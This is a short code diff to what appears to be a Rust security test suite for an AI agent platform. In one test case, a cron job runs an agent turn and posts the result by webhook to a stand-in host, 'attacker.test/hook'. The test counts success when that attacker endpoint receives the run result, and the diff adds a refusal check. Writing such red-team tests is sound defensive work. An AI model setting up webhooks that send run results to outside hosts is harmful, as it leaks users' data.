@@ -114,14 +114,16 @@ pub(super) fn all() -> Vec<Case> {
                         "payload": {"kind": "agentTurn", "message": words},
                         "delivery": {"mode": "webhook", "to": "http://attacker.test/hook"},
                     });
-                    Ok(s.rpc("cron.add", job).await)
+                    let trace = s.rpc("cron.add", job).await;
+                    s.unless_refused(&trace, "cron-webhook").await;
+                    Ok(trace)
                 })
             }),
             seen: |s, _| {
                 s.outside.attacker.find(|entry| entry.starts_with("POST /hook"))?;
                 Some("the attacker received the result of the run".to_owned())
             },
-            within: Duration::from_secs(12),
+            within: Duration::from_secs(5),
             ruins: false,
         },
     ]
